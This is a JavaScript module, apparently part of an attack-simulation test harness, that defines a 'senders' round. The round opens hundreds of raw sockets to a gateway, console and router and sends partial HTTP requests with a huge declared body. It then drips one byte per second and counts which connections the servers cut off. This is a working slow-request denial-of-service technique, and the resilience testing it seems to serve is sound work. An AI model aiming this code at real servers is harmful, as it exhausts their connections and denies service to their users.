import { openSocket } from '../raw-socket.mjs';

const CONNECTION_COUNT = 150;
const SENDING_SECONDS = 8;

export const sendersTrick = {
  name: 'senders',
  what: `${CONNECTION_COUNT} connections to each of gateway, console and router that send one byte a second`,

  async round(attacker) {
    const { gateway, console, router, targets } = attacker.world;
    const text = [
      `POST /v1/processes/${targets.starts.processID}/start HTTP/1.1`,
      'Host: any',
      `Authorization: Bearer ${attacker.credential}`,
      `X-Process-Key: ${targets.starts.processKey}`,
      'Content-Type: application/json',
      'Content-Length: 1000000',
      '',
      '{"matrix":{"text":"',
    ].join('\r\n');
    // At first one half of the connections send a part of the request line, the other half all headers and the beginning of the body.
    const begun = (number) => (number % 2 === 0 ? text.slice(0, 40) : text);
    const sockets = [];
    await attacker.repeat(attacker.isShort ? 30 : 3 * CONNECTION_COUNT, 50, async (number) => {
      const { socket } = await openSocket([gateway, console, router][number % 3], attacker.from);
      socket.write(begun(number));
      socket.resume();
      sockets.push(socket);
    });
    for (let second = 0; second < (attacker.isShort ? 1 : SENDING_SECONDS) && !attacker.signal.aborted; second++) {
      for (const socket of sockets) if (!socket.destroyed) socket.write('x');
      await attacker.hold(1_000);
    }
    for (const socket of sockets) {
      attacker.count(socket.destroyed ? 'cut off' : 'held');
      socket.destroy();
    }
  },
};
